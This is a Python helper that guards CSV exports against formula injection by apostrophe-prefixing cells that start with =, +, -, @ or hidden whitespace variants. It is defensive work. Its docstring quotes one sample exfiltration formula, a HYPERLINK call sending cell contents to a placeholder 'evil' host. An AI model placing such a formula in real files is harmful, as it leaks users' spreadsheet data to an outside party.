"""Cells of our CSV exports, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a text cell that starts with = + - @ (or a tab or
CR before one, or leading spaces before one, which they trim) as a formula: a contact named
`=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such a cell gets a leading apostrophe,
which spreadsheets show as plain text (OWASP "CSV injection")."""

import re
from decimal import Decimal

# Leading whitespace of any kind (spaces, NBSP, tabs, line breaks) before a formula start,
# or a tab/CR/LF at the very start: both are how a formula hides from a naive first-character check.
_FORMULA_START = re.compile(r"[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


def safe_cell(value) -> str:
    """Numbers stay numbers (a negative figure is not a formula); any text that a spreadsheet
    would evaluate is prefixed with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if _FORMULA_START.match(text) else text
